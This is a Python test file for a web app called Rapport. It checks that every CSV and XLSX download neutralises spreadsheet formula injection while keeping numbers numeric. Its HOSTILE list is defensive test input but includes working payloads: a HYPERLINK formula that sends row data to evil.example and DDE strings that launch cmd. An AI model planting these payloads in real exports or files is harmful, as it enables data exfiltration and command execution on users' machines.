"""Downloads never run formulas: every CSV and XLSX cell is neutralised, numbers stay numbers.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula: an imported name `=HYPERLINK("https://…?"&B2,"open")` would become
a working link that sends the row to another server. Each test here plays that with every
file Rapport offers for download, and a meta-test fails when a page offers a spreadsheet
download that is not listed here, or when code writes CSV or XLSX other than through
db/imports/export.py.
"""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped]

from db.core.spreadsheets import (
    FORMULA_STARTS,
    frame_csv,
    records_csv,
    rows_csv,
    rows_xlsx,
    spreadsheet_cell,
)
from db.duplicates.report import DuplicatePair, pairs_csv
from db.imports.batches import problems_csv
from db.imports.files import read_table, unmarked
from db.imports.kinds import Problem
from db.surveys.distribution import IssuedLink, links_csv

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&B2,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''+1",
    "-5",
    "+44 20 7946 0018",
]
SPREADSHEET_MIMES = {
    "text/csv",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet opening this cell's text would run it."""
    return cell.lstrip(" \u00a0")[:1] in FORMULA_STARTS


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_csv_is_inert(text: str, typed: list[str]) -> None:
    """No cell of the CSV starts a formula, and every typed text reads back as typed."""
    cells = [cell for row in csv_cells(text) for cell in row]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    assert typed, "the test must put hostile text into the file"
    back = read_table(text.encode(), "back.csv")
    read_back = {cell for row in [back.headers, *back.rows] for cell in row}
    assert set(typed) <= read_back, set(typed) - read_back


@given(st.text(max_size=40))
@example("=1+1")
@example("'=1+1")
@example("''=1+1")
@example(" \t-1")
def test_no_text_becomes_a_cell_that_starts_a_formula_and_every_text_reads_back(
    text: str,
) -> None:
    cell = spreadsheet_cell(text)
    assert not starts_a_formula(cell)
    assert unmarked(cell) == text  # import reads back exactly what was exported


@given(st.integers(min_value=-(10**12), max_value=10**12))
def test_numbers_stay_numbers(number: int) -> None:
    assert spreadsheet_cell(number) == number
    assert spreadsheet_cell(Decimal(number) / 100) == Decimal(number) / 100
    assert csv_cells(rows_csv(["amount"], [[Decimal(number) / 100]]))[1] == [
        str(Decimal(number) / 100)
    ]


def test_numpy_numbers_from_a_page_table_stay_numbers() -> None:
    assert spreadsheet_cell(np.int64(-5)) == -5
    assert csv_cells(rows_csv(["n", "x"], [[np.int64(-5), np.float64(-0.5)]]))[1] == ["-5", "-0.5"]
    assert csv_cells(rows_csv(["x"], [[float("nan")]]))[1] == [""]


def test_a_negative_amount_is_a_number_in_xlsx_and_plain_in_csv() -> None:
    book = load_workbook(io.BytesIO(rows_xlsx("deals", [["amount"], [Decimal("-5")], [-5.5]])))
    sheet = book.worksheets[0]
    assert [sheet["A2"].value, sheet["A3"].value] == [-5, -5.5]
    assert sheet["A2"].data_type == "n"
    assert csv_cells(rows_csv(["amount"], [[Decimal("-5.00")], [-5]])) == [
        ["amount"],
        ["-5.00"],
        ["-5"],
    ]


@pytest.mark.parametrize("payload", HOSTILE)
def test_an_xlsx_never_holds_a_formula_or_text_that_starts_one(payload: str) -> None:
    data = rows_xlsx("contacts", [["given_name", "family_name"], [payload, "Silva"]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and starts_a_formula(c.value)]
    assert read_table(data, "x.xlsx").rows == [[payload.replace("\r", "\n"), "Silva"]] or (
        payload.strip() != payload
    )


def pair(ref: str) -> DuplicatePair:
    return DuplicatePair(1, ref, "Ana Silva", 2, ref, "Ana Silva", 0.9, (ref,))


PRODUCERS: dict[str, Any] = {
    "duplicate pairs": lambda p: pairs_csv([pair(p)]),
    "survey links": lambda p: links_csv([IssuedLink(p, "a@example.org", "https://x/answer")]),
    "rejected rows": lambda p: problems_csv([Problem(2, "given_name", p)]).decode(),
    "a page's table": lambda p: frame_csv(pd.DataFrame([{"Name": p, "Count": 3}])),
    "dict rows": lambda p: records_csv([{"contact": p, "channel": "email"}]),
}


@pytest.mark.parametrize("producer", sorted(PRODUCERS))
@pytest.mark.parametrize("payload", [p for p in HOSTILE if p.strip() == p])
def test_every_csv_producer_neutralises_formulas(producer: str, payload: str) -> None:
    assert_csv_is_inert(PRODUCERS[producer](payload), [payload])


def test_a_page_table_keeps_its_number_columns_numeric() -> None:
    frame = pd.DataFrame([{"Stage": "-Lost", "Amount": -5, "Share": -0.25}])
    assert csv_cells(frame_csv(frame)) == [["Stage", "Amount", "Share"], ["'-Lost", "-5", "-0.25"]]


# Every download a page offers as CSV or XLSX, by page and file name, and which producer
# above (or the database-backed exports in tests/integration/test_export_cells.py) covers it.
PAGE_DOWNLOADS = {
    ("pages/duplicates.py", "duplicate-pairs.csv"): "duplicate pairs",
    ("pages/surveys.py", "survey-{survey_id}-links{marked_name}.csv"): "survey links",
    ("pages/import.py", "rejected-rows.csv"): "rejected rows",
    ("pages/import.py", "{name}.csv"): "export_csv",
    ("pages/import.py", "{name}.xlsx"): "export_xlsx",
    ("pages/employees.py", "refused-rows.csv"): "a page's table",
    ("pages/survey_results.py", "{name}.csv"): "a page's table",
    ("pages/consent_audit.py", "consent-audit.csv"): "dict rows",
    ("pages/consent_audit.py", "consent-audit-{finding.number}-{finding.key}.csv"): (
        "a page's table"
    ),
    ("pages/forecast.py", "{key}.csv"): "a page's table",
}


def _keyword(call: ast.Call, name: str) -> ast.expr | None:
    return next((k.value for k in call.keywords if k.arg == name), None)


def _source(node: ast.expr | None) -> str:
    if isinstance(node, ast.Constant):
        return str(node.value)
    if isinstance(node, ast.JoinedStr):
        return ast.unparse(node)[2:-1]  # f"…" without the f and the quotes
    return ast.unparse(node) if node is not None else ""


def spreadsheet_downloads() -> set[tuple[str, str]]:
    found = set()
    for path in sorted((ROOT / "pages").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"
            ):
                continue
            if _source(_keyword(node, "mime")) in SPREADSHEET_MIMES:
                found.add((f"pages/{path.name}", _source(_keyword(node, "file_name"))))
    return found


def test_every_spreadsheet_download_of_every_page_is_covered_here() -> None:
    found = spreadsheet_downloads()
    assert found == set(PAGE_DOWNLOADS), (
        f"not covered: {sorted(found - set(PAGE_DOWNLOADS))}; "
        f"gone: {sorted(set(PAGE_DOWNLOADS) - found)}"
    )
    covered = set(PRODUCERS) | {"export_csv", "export_xlsx"}
    assert set(PAGE_DOWNLOADS.values()) <= covered


# Writers that bypass db/imports/export.py. The demo's directory file is generated to be imported,
# never downloaded, so it may use the csv module directly.
WRITERS = {"writer", "DictWriter", "to_csv", "to_excel", "Workbook", "ExcelWriter"}
MAY_WRITE = {"db/core/spreadsheets.py", "db/demo/surveys.py"}


def test_no_code_writes_csv_or_xlsx_except_through_db_core_spreadsheets() -> None:
    sources = [ROOT / "app.py", ROOT / "manage.py"]
    for folder in ("db", "pages", "components"):
        sources += sorted((ROOT / folder).rglob("*.py"))
    offences = []
    for path in sources:
        name = path.relative_to(ROOT).as_posix()
        if name in MAY_WRITE or name.startswith("db/migrations/"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = node.func if isinstance(node, ast.Call) else None
            label = (
                called.attr
                if isinstance(called, ast.Attribute)
                else called.id
                if isinstance(called, ast.Name)
                else None
            )
            if label in WRITERS:
                offences.append(f"{name}:{node.lineno}: {label}")
    assert not offences, "write spreadsheets through db/core/spreadsheets.py:\n" + "\n".join(
        offences
    )


def test_control_characters_an_xlsx_cannot_hold_are_dropped_not_fatal() -> None:
    data = rows_xlsx("contacts", [["notes"], ["=\x1bcmd\x07"]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].value == "'=cmd" and sheet["A2"].data_type == "s"
